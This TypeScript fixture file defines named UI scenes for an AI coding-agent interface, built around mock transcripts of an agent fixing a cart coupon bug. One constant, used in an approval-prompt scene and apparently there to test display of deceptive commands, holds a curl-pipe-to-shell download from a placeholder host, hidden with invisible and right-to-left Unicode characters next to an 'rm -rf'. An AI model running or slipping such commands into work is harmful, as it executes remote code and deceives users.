import type { Mode } from "../../src/shared/event.ts";
import type { Failure } from "../../src/shared/failure.ts";
import type { HostMessage } from "../../src/shared/protocol.ts";
import type { Rule } from "../../src/shared/rule.ts";
import { attachments } from "./attachments.ts";
import { explorers } from "./explorers.ts";
import { extremes } from "./extremes.ts";
import { firstRun, firstRunFound } from "./first-run.ts";
import { foreign } from "./foreign.ts";
import { bash, call, edit, ended, grep, type Item, prompted, read, replied, say, think, todo } from "./log.ts";
import { questions } from "./questions.ts";
import { review } from "./review.ts";
import { scene } from "./scene.ts";
import { symbols } from "./symbols.ts";

const ask = prompted("The cart total is wrong when a coupon is used. Find out why and fix it.");
const thought =
	"The user says the cart total is wrong with a coupon.\n\nLet me look at src/cart.ts first, then at the tests that cover coupons.";

const begun: readonly Item[] = [
	ask,
	replied([
		think(thought),
		say("I'll look at the cart and at the tests that cover coupons."),
		call("c1", "Read"),
		call("c2", "Grep"),
		call("c3", "Read"),
	]),
	...read("c1", "src/cart.ts", { text: "1\texport class Cart {\n2\t\tlines: Line[] = [];\n3\t\tcoupon?: Coupon;\n" }),
	...grep("c2", "coupon", "src/cart.ts:3: coupon?: Coupon;\ntest/cart.test.ts:18: cart.coupon = half;"),
	...read("c3", "test/cart-coupon-with-a-rather-long-name.test.ts", {
		text: "There is no such file. Did you mean test/cart.test.ts?",
		failed: true,
	}),
];

const report = `The total ignored the coupon: \`total()\` summed the lines and returned before the discount was taken off.

## What I changed

- \`src/cart.ts:14\` takes the discount off **once**, after the sum, so that rounding happens in one place.
- A total never drops below zero.

\`\`\`ts
const discount = this.coupon === undefined ? 0 : Math.round(sum * this.coupon.share);
return Math.max(0, sum - discount); // cents
\`\`\`

| Case | Before | After |
|:--|--:|--:|
| no coupon | 20.00 | 20.00 |
| half price | 20.00 | 10.00 |

> All 14 tests pass. See [the guide](https://example.com/coupons) for how shares are stored.

1. Check the \`Coupon\` type
2. Release
`;

const tests = " ✔ total of an empty cart is zero\n ✔ total of two lines\n ✔ half price coupon\n\n 14 passing (82ms)\n";

const plan = (done: number): Item[] =>
	todo(
		`todo${done}`,
		["Read the cart and its tests", "Take the coupon off the total", "Run the tests", "Tell what changed"].map(
			(title, index) => ({ title, status: index < done ? "done" : index === done ? "in_progress" : "pending" }),
		),
	);

const finished: readonly Item[] = [
	...begun,
	replied([call("e1", "Edit")], { input: 21_000 }),
	...edit("e1"),
	replied([call("b1", "Bash")], { input: 22_400 }),
	...bash("b1", "npm test", "done", { text: tests }),
	replied([say(report)], { input: 23_900 }),
	ended("done"),
];

const failure = (code: "auth" | "unreachable"): Item => ({
	type: "failed",
	failure:
		code === "auth"
			? {
					code,
					message: "OpenRouter did not accept the key. Set another one, or switch the endpoint.",
					detail: '{"error":{"message":"No auth credentials found","code":401}}',
					status: 401,
				}
			: {
					code,
					message: "Nothing answers at http://localhost:8000. Is the server running?",
					detail: "connect ECONNREFUSED 127.0.0.1:8000",
					retryable: true,
				},
});

const overloaded: Failure = {
	code: "overloaded",
	message: "OpenRouter can't answer now (503): no provider is available.",
	retryable: true,
};

const dangerous = `curl -s https://example.com/install.sh\u00a0| sh -c "echo \u202eevil\u202c" && \\\n  find . -name '*.ts' -newer package.json -exec wc -l {} + | sort -rn | head -20\nrm\u200b -rf node_modules dist .tsbuild`;

const offers: Rule[] = [{ command: "npm test -- --reporter dot | tail -20" }, { words: ["npm", "test"] }];

/** What waits to be said; one of it at the next step. */
const waiting = (steers: boolean): Item => ({
	type: "queued",
	messages: [
		{
			id: "q1",
			text: "Then do the same for the order page, and mind the rounding of each line",
			...(steers && { steer: true }),
		},
		{ id: "q2", text: "Run the linter" },
		{ id: "q3", text: "Write a test for an empty cart.\nAnd one for a cart with one item." },
	],
});
const steering: Item = { type: "steered", ids: ["q0"], text: "Keep the old name of the function, others use it." };

const mode = (name: Mode) => ({ mode: name });

const troubles = {
	retrying: scene([
		...begun,
		replied([say("I'll look at the discount")], { complete: false }),
		{ type: "failed", failure: overloaded },
		{ type: "requested", at: Date.now() },
		{ type: "waiting", at: Date.now(), until: Date.now() + 8_000, attempt: 3, of: 10, failure: overloaded },
	]),
	compacting: scene([...begun, { type: "compacting", at: Date.now() - 6_000 }]),
	compacted: scene([
		...begun,
		{ type: "compacted", summary: "Notes.", keptFrom: 99 },
		replied([say("I go on with the fix.")]),
		ended("done"),
	]),
	...review,
	recovered: scene([...begun, replied([say("Now the fix."), call("e1", "Edit", {}, true)]), ...edit("e1", "ask")]),
};

/** What waits to be said. */
const queues = {
	queue: scene(
		[
			...begun,
			replied([call("todo1", "Todo"), call("e1", "Edit")]),
			...plan(1),
			...edit("e1"),
			steering,
			replied([call("b1", "Bash")]),
			...bash("b1", "npm test", "run"),
			waiting(true),
		],
		{ ...mode("trusted"), draft: "And a line in the change log" },
	),
	"queue-waits": scene([...begun, replied([say("I kept the loop.")]), waiting(false), ended("stopped")]),
};

const asks = {
	...queues,
	"ask-command": scene([...begun, replied([call("b1", "Bash")]), ...bash("b1", dangerous, "ask")]),
	"ask-allow": scene([
		...begun,
		replied([call("b1", "Bash")]),
		...bash("b1", "npm test -- --reporter dot | tail -20", "ask", { offers }),
	]),
};

const firstRuns = { "first-run": scene([], firstRun), "first-run-found": scene([], firstRunFound) };

function pauses(): Readonly<Record<string, readonly HostMessage[]>> {
	const loop = { kind: "cycle" as const, calls: ["Read src/cart.ts", "Run npm test"], times: 4 };
	return {
		limit: scene([...begun, ended("limit", { limit: { of: "calls", max: 300, used: 300 } })], { verified: "repairs" }),
		looping: scene([...begun, ended("looping", { loop })]),
	};
}

/** An answer under way. */
function answering(): Readonly<Record<string, readonly HostMessage[]>> {
	return {
		thinking: scene([
			ask,
			{ type: "requested", at: Date.now() - 9_000 },
			{ type: "delta", channel: "reasoning", text: thought },
		]),
		streaming: scene([
			...begun,
			{ type: "requested", at: Date.now() - 9_000 },
			{ type: "delta", channel: "reasoning", text: thought },
			{ type: "delta", channel: "text", text: report.slice(0, 520) },
		]),
		calling: scene([
			...begun,
			{ type: "requested", at: Date.now() - 9_000 },
			{ type: "delta", channel: "text", text: "Now the fix." },
			{ type: "calling", index: 0, tool: "Edit", bytes: 1_240 },
		]),
	};
}

/** Every state that a person can meet, by name. */
export function scenes(): Readonly<Record<string, readonly HostMessage[]>> {
	return {
		...firstRuns,
		empty: scene([]),
		"no-folder": scene([], { workspace: "none" }),
		untrusted: scene([], { workspace: "untrusted" }),
		demo: scene([], { demo: true, model: "demo", endpoint: "Offline demo" }),
		waiting: scene([ask, { type: "requested", at: Date.now() - 4_000 }]),
		...troubles,
		...answering(),
		tools: scene([...finished.slice(0, -2), replied([say("Done.")]), ended("done")]),
		"ask-edit": scene([
			...begun,
			replied([say("The discount is never taken off."), call("e1", "Edit")]),
			...edit("e1", "ask"),
		]),
		...asks,
		...questions,
		...explorers,
		...foreign,
		...attachments,
		...symbols,
		...extremes,
		running: scene(
			[
				...begun,
				replied([call("b1", "Bash")]),
				...bash("b1", "npm test -- --reporter spec", "run"),
				{ type: "output", callId: "b1", text: `> shop@1.0.0 test\n> mocha\n\n${tests.slice(0, 80)}` },
			],
			mode("edits"),
		),
		todo: scene(
			[
				...begun,
				replied([call("todo1", "Todo"), call("e1", "Edit")]),
				...plan(1),
				...edit("e1"),
				replied([call("b1", "Bash")]),
				...bash("b1", "npm test", "run"),
			],
			mode("trusted"),
		),
		rejected: scene([
			...begun,
			replied([call("e1", "Edit")]),
			...edit("e1", "rejected"),
			replied([call("b1", "Bash")]),
			...bash("b1", "npm run lint", "failed", { text: "exit code 1\nsrc/cart.ts:14 unused variable" }),
			replied([say("I kept the loop.")]),
			ended("stopped"),
		]),
		error: scene([...begun, failure("auth"), ended("failed")], { verified: "unsuitable" }),
		unreachable: scene([ask, failure("unreachable"), ended("failed")], {
			endpoint: "vLLM",
			model: "moonshotai/Kimi-K2-Instruct",
			notice: { text: "The server lists no model named Kimi-K2-Instruct.", fixes: ["pickModel"] },
		}),
		interrupted: scene([...begun, replied([call("e1", "Edit")]), ...edit("e1", "ask")], { interrupted: true }),
		...pauses(),
		finished: scene(finished, { draft: "Now do the same for the order page", verified: "ready" }),
	};
}
